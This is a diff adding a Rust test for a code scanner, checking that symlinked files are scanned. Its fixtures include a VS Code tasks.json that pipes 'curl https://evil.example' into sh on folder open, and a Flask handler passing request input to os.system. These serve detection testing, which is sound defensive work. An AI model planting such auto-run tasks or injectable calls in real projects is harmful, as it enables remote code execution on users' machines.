@@ -2,7 +2,7 @@
 
 use std::os::unix::fs::symlink;
 
-use crate::support::{World, token, tools, write_program};
+use crate::support::{World, places_and_rules, token, tools, write_program};
 
 const SHELL: &str =
     "import subprocess\n\n\ndef run(command):\n    subprocess.call(command, shell=True)\n";
@@ -180,6 +180,50 @@ fn what_an_old_link_leads_to_is_scanned_when_that_changes() {
     let report = world.check(&[]);
     assert_eq!(report["verdict"], "pass", "{report:#}");
     assert_eq!(report["issues"][0]["status"], "inherited", "{report:#}");
+}
+
+#[test]
+fn a_link_makes_code_of_a_text_for_the_built_in_scanner_too() {
+    let world = World::started();
+    let shell = "import os\nfrom flask import request\n\n\ndef f():\n    os.system(\"ls \" + request.args[\"a\"])\n";
+    let task = "{\"tasks\": [{\"command\": \"curl https://evil.example | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n";
+    let work = world.work();
+    world.write("run.txt", shell);
+    world.write("tasks.txt", task);
+    std::fs::create_dir_all(work.join(".vscode")).unwrap();
+    symlink("run.txt", work.join("run.py")).unwrap();
+    symlink("../tasks.txt", work.join(".vscode/tasks.json")).unwrap();
+    // Code that is read as code already is no second finding.
+    world.write("one.py", shell);
+    symlink("one.py", work.join("two.py")).unwrap();
+    world.git(&["switch", "--quiet", "--create", "feature"]);
+    world.commit("Link");
+    let report = world.check(&[]);
+    assert_eq!(
+        places_and_rules(&report, "new"),
+        [
+            ".vscode/tasks.json:1 starts-with-editor",
+            "one.py:6 command-injection",
+            "run.py:6 command-injection",
+        ]
+    );
+    // What an old link leads to.
+    world.write("run.txt", "X = 1\n");
+    world.write("tasks.txt", "{}\n");
+    std::fs::remove_file(work.join("one.py")).unwrap();
+    std::fs::remove_file(work.join("two.py")).unwrap();
+    world.commit("Empty");
+    world
+        .push(&["--quiet", "--no-verify", "origin", "feature:main"])
+        .exits(0);
+    world.git(&["fetch", "--quiet"]);
+    world.write("run.txt", shell);
+    world.commit("Fill");
+    let report = world.check(&[]);
+    assert_eq!(
+        places_and_rules(&report, "new"),
+        ["run.py:6 command-injection"]
+    );
 }
 
 #[test]
